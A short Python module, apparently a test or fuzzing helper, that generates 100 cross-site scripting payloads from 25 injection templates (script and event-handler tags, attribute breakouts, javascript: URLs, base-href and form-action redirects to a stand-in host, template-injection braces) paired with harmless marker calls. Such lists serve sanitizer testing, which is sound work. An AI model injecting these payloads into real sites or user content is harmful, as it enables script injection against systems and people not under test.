"""A hundred ways in which a text may break out of a page, a cell or a link."""

TAGS = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    '"><script>{0}</script>',
    "'><img src=x onerror={0}>",
    '" onmouseover="{0}',
    "' onfocus='{0}' autofocus='",
    "</title><script>{0}</script>",
    "</textarea><svg/onload={0}>",
    "</script><script>{0}</script>",
    '<a href="javascript:{0}">x</a>',
    '<iframe srcdoc="<script>{0}</script>">',
    '<b style="background:url(javascript:{0})">',
    "<style>@import'//x.invalid'</style>{0}",
    "<base href=//x.invalid>{0}",
    "<form action=//x.invalid><button>{0}",
    "<meta http-equiv=refresh content=0;url=//x>{0}",
    "{{{{{0}}}}}",
    "{{% {0} %}}",
    "<!--{0}-->",
    '<math><mi xlink:href="javascript:{0}">',
    "<details open ontoggle={0}>",
    '<object data="javascript:{0}">',
    "<input autofocus onfocus={0}>",
    "<x onclick={0}>",
)
CALLS = ("alert(1)", "self.xss=1", "top['xss']=1", "throw`xss`")
PAYLOADS = tuple(tag.format(call) for tag in TAGS for call in CALLS)


def payload(number: int) -> str:
    return PAYLOADS[number % len(PAYLOADS)]
